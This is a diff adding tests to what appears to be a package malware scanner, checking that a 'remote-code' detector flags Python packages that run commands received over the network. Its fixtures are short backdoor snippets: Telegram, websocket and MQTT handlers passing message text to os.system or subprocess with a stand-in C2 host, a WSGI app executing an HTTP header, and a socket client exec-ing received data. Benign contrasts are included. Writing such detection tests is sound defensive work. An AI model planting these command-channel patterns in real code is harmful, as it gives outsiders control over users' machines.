@@ -305,3 +305,131 @@ test('a program that takes text, not orders, may be fed what came over the netwo
   expect(await inspect('remote-code', feeding('pbcopy'))).toMatchObject([{ class: 'suspicious', score: 3 }]);
   expect(await inspect('remote-code', feeding('bash'))).toMatchObject([{ class: 'malware', score: 6 }]);
 });
+
+test.each([
+  [
+    'a decorated handler of a bot whose token stands in the code',
+    [
+      'import telebot, os',
+      "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
+      "@bot.message_handler(commands=['sh'])",
+      'def sh(m):',
+      '    os.popen(m.text[4:]).read()',
+      'bot.infinity_polling()',
+    ],
+  ],
+  [
+    'the same, started by a thread that is handed the method alone',
+    [
+      'import telebot, os, threading',
+      "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
+      '@bot.message_handler()',
+      'def sh(m):',
+      '    os.popen(m.text).read()',
+      'threading.Thread(target=bot.infinity_polling, daemon=True).start()',
+    ],
+  ],
+  [
+    'a handler that a socket is made with',
+    [
+      'import subprocess, websocket',
+      'def on_message(ws, m):',
+      '    subprocess.Popen(m, shell=True)',
+      "websocket.WebSocketApp('wss://c2.tools.invalid/x', on_message=on_message).run_forever()",
+    ],
+  ],
+  [
+    'a handler that is registered by a method and by an object in between',
+    [
+      'import os',
+      'from telegram.ext import Application, CommandHandler',
+      'async def sh(update, context):',
+      '    os.system(update.message.text)',
+      "app = Application.builder().token('1234567890:inert').build()",
+      "app.add_handler(CommandHandler('sh', sh))",
+      'app.run_polling()',
+    ],
+  ],
+  [
+    'a handler that is set as a field',
+    [
+      'import os',
+      'import paho.mqtt.client as mqtt',
+      'def take(client, data, message):',
+      '    os.system(message.payload.decode())',
+      'c = mqtt.Client()',
+      'c.on_message = take',
+      "c.connect('broker.tools.invalid', 1883)",
+      'c.loop_start()',
+    ],
+  ],
+])('%s runs what it is told: malware at import', async (_what, lines) => {
+  const file = wheel({ 'pkg/__init__.py': python(...lines) });
+
+  expect(await inspect('remote-code', file)).toContainEqual(
+    expect.objectContaining({ class: 'malware', score: 10, context: 'import' }),
+  );
+});
+
+test('a bot that logs in with the token of its user, and one that is started by a command, may be told what to do', async () => {
+  const handler = ['@bot.message_handler()', 'def sh(m):', '    os.popen(m.text).read()'];
+  const own = wheel({
+    'pkg/__init__.py': python(
+      'import telebot, os',
+      "bot = telebot.TeleBot(os.environ['TOKEN'])",
+      ...handler,
+      'bot.polling()',
+    ),
+  });
+  const asked = wheel({
+    'pkg/__init__.py': python(
+      'import telebot, os',
+      "bot = telebot.TeleBot('1234567890:inert-inert-inert')",
+      ...handler,
+      'def main():',
+      '    bot.polling()',
+    ),
+  });
+
+  expect(await inspect('remote-code', own)).toEqual([]);
+  expect(await inspect('remote-code', asked)).toEqual([]);
+});
+
+test('a header that is run as a command is an order from whoever asks', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import subprocess',
+      'class Shell:',
+      '    def __call__(self, environ, start_response):',
+      "        order = environ.get('HTTP_X_ORDER')",
+      '        if order:',
+      '            return [subprocess.check_output(order, shell=True)]',
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
+});
+
+test('what a listener of another process is sent, and evaluates, is an order; the workers of a pool are not told any', async () => {
+  const told = wheel({
+    'pkg/__init__.py': python(
+      'from multiprocessing.connection import Client',
+      "c = Client(('203.0.113.67', 6000))",
+      'while True:',
+      '    exec(c.recv())',
+    ),
+  });
+  const pool = wheel({
+    'pkg/__init__.py': python(
+      'import multiprocessing, os',
+      'def size(path):',
+      '    return os.path.getsize(path)',
+      'def sizes(paths):',
+      '    with multiprocessing.Pool() as pool:',
+      '        return pool.map(size, paths)',
+    ),
+  });
+
+  expect(await inspect('remote-code', told)).toMatchObject([{ class: 'malware', score: 10 }]);
+  expect(await inspect('remote-code', pool)).toEqual([]);
+});
